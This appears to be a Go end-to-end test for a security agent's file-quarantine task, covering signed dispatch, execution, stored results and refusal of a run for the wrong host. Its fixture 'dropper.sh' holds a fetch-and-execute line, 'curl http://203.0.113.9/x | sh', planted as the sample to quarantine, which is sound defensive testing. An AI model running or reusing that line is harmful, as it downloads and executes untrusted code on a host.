package runner

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/vigilsec/vigil/internal/respond/quarantine"
	"github.com/vigilsec/vigil/internal/server/store"
	"github.com/vigilsec/vigil/internal/server/store/sqlite"
	"github.com/vigilsec/vigil/internal/task"
	"github.com/vigilsec/vigil/internal/task/centre"
)

// TestEndToEnd goes from a console submission to a run's result in the
// store: Centre.Submit, the link's dispatch (PendingRuns, SignRun,
// dispatched), the agent's RunTask on a real file, and the result
// (succeeded with output). A second host's run is refused by this agent.
func TestEndToEnd(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	st, err := sqlite.Open(ctx, filepath.Join(dir, "vigil.db"))
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	now := time.Now().UTC()
	for _, id := range []string{hostID, "host-b"} {
		if err := st.UpsertHost(ctx, store.Host{ID: id, Hostname: id, EnrolledAt: now, LastSeen: now}); err != nil {
			t.Fatal(err)
		}
	}
	signer, err := task.LoadOrCreateSigner(filepath.Join(dir, "server"))
	if err != nil {
		t.Fatal(err)
	}
	c := centre.New(st, signer)

	// The agent, configured with the key the server hands out.
	pub, err := task.ParsePublicKey(signer.PublicKeyPEM())
	if err != nil {
		t.Fatal(err)
	}
	agentDir := filepath.Join(dir, "agent")
	q, err := quarantine.Open(agentDir)
	if err != nil {
		t.Fatal(err)
	}
	ex, err := New(pub, hostID, agentDir, Deps{Quarantine: q})
	if err != nil {
		t.Fatal(err)
	}
	victim := filepath.Join(dir, "dropper.sh")
	if err := os.WriteFile(victim, []byte("#!/bin/sh\ncurl http://203.0.113.9/x | sh\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	tk, err := c.Submit(ctx, "alice", "quarantine_file", json.RawMessage(fmt.Sprintf(`{"path": %q}`, victim)),
		store.Targets{Hosts: []string{hostID, "host-b"}}, "")
	if err != nil {
		t.Fatal(err)
	}

	// The link: dispatch this host's pending run.
	runs, err := st.PendingRuns(ctx, hostID, 10)
	if err != nil || len(runs) != 1 {
		t.Fatalf("pending runs %+v, %v", runs, err)
	}
	stored, err := st.GetTask(ctx, runs[0].TaskID)
	if err != nil {
		t.Fatal(err)
	}
	payload, sig, err := signer.SignRun(ctx, stored, runs[0])
	if err != nil {
		t.Fatal(err)
	}
	if err := st.SetRunState(ctx, runs[0].ID, store.RunDispatched, time.Now(), nil); err != nil {
		t.Fatal(err)
	}
	out, err := ex.RunTask(ctx, payload, sig)
	if err != nil {
		t.Fatalf("RunTask: %v", err)
	}
	if err := st.SetRunState(ctx, runs[0].ID, store.RunSucceeded, time.Now(), out); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Lstat(victim); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("file not quarantined: %v", err)
	}
	all, err := st.ListTaskRuns(ctx, tk.ID)
	if err != nil {
		t.Fatal(err)
	}
	var got Output
	for _, r := range all {
		if r.HostID == hostID {
			if r.State != store.RunSucceeded {
				t.Errorf("run state %s", r.State)
			}
			if err := json.Unmarshal(r.Output, &got); err != nil {
				t.Fatal(err)
			}
		}
	}
	res, _ := json.Marshal(got.Result)
	var m quarantine.Meta
	json.Unmarshal(res, &m)
	if got.Type != task.QuarantineFile || got.RunID != runs[0].ID || m.OriginalPath != victim {
		t.Errorf("stored output %+v", got)
	}

	// host-b's run, delivered to this agent by mistake, is refused.
	other, err := st.PendingRuns(ctx, "host-b", 10)
	if err != nil || len(other) != 1 {
		t.Fatalf("host-b runs %+v, %v", other, err)
	}
	payload, sig, err = signer.SignRun(ctx, stored, other[0])
	if err != nil {
		t.Fatal(err)
	}
	if _, err := ex.RunTask(ctx, payload, sig); !errors.Is(err, task.ErrWrongHost) {
		t.Errorf("host-b's run on host-a: error %v, want ErrWrongHost", err)
	}
}
